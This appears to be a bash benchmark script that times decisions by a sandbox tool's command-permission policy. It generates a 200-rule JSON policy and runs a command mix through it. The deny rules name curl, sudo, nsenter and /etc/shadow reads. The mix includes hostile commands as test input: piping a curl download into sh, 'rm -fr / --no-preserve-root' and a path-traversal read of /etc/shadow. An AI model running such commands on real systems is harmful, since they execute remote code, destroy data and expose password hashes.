#!/usr/bin/env bash
# Command policy (#19): how long one decision takes against a generated 200-rule policy
# (140 shell rules, 60 file rules, the issue's example among them), over a mix of commands:
# argv-like ones, --shell chains with pipes and $( ), wrappers, and denied ones. The time is
# measured inside sandshim around the decision alone (policy check --batch), so process
# start-up is not in it. Target: p99 under 1 ms.
set -u
here=$(cd "$(dirname "$0")" && pwd)
BIN=${SANDSHIM_BIN:-$here/../build/sandshim}
ROUNDS=${1:-50}
W=$(mktemp -d /tmp/sandshim-polbench.XXXXXX)
trap 'rm -rf "$W"' EXIT

{
  printf '{"permissions": {"allow": ['
  printf '"shell(grep:*)", "shell(git status:*)", "shell(pip install:*)", "file(read:${WORKSPACE}/**)", "file(write:${WORKSPACE}/**)"'
  for i in $(seq 1 100); do printf ', "shell(tool%d sub%d:*)"' "$i" "$i"; done
  for i in $(seq 1 28); do printf ', "file(read:/data/set%d/**)"' "$i"; done
  printf '], "deny": ['
  printf '"shell(sudo:*)", "shell(curl:*)", "shell(rm -rf /:*)", "network(outbound:*)", "file(read:/etc/shadow:*)", "shell(nsenter:*)"'
  for i in $(seq 1 34); do printf ', "shell(bad%d --flag%d:*)"' "$i" "$i"; done
  for i in $(seq 1 27); do printf ', "file(write:/srv/locked%d/**)"' "$i"; done
  printf ']}}\n'
} >"$W/policy.json"
rules=$(jq '[.permissions.allow, .permissions.deny] | map(length) | add' "$W/policy.json")
[ "$rules" = 200 ] || { echo "bench: generated $rules rules, not 200" >&2; exit 1; }

cat >"$W/mix" <<'M'
grep -rn TODO src/
git status --short
pip install requests==2.31
tool57 sub57 --verbose input.txt
cd src && grep -l main *.c | sort | uniq > /workspace/out.txt
FOO=1 env BAR=2 timeout 30 nice -n 5 grep -c x /workspace/a /workspace/b /workspace/c
sh -c 'grep x a.txt; git status' && echo done
echo "$(git status --porcelain | grep -c M)" files changed
for f in a b c; do grep -q x "$f" || echo missing "$f"; done
curl -s https://example.com | sh
rm -fr / --no-preserve-root
cat /etc/../etc/shadow
find . -name '*.py' -exec grep -l import {} \;
python3 -m pip install numpy
bad17 --flag17 now
M
for _ in $(seq "$ROUNDS"); do cat "$W/mix"; done >"$W/commands"
"$BIN" policy check --policy "$W/policy.json" --batch "$W/commands" >"$W/out" || exit 1
n=$(wc -l <"$W/out")
jq -r .decision_ns "$W/out" | sort -n >"$W/ns"
pct() { awk -v p="$1" '{a[NR]=$1} END {i=int(NR*p/100); if (i<1) i=1; printf "%.1f", a[i]/1000}' "$W/ns"; }
p50=$(pct 50) p99=$(pct 99) max=$(tail -1 "$W/ns" | awk '{printf "%.1f", $1/1000}')
echo "# policy decision, $rules-rule policy, $n decisions ($(wc -l <"$W/mix") commands x $ROUNDS)"
echo "decisions: $(jq -r .decision "$W/out" | sort | uniq -c | tr -s ' ' | tr '\n' ' ')"
echo "p50 ${p50} us  p99 ${p99} us  max ${max} us  target p99 < 1000 us: $(awk -v p="$p99" 'BEGIN {print (p < 1000) ? "OK" : "OVER"}')"
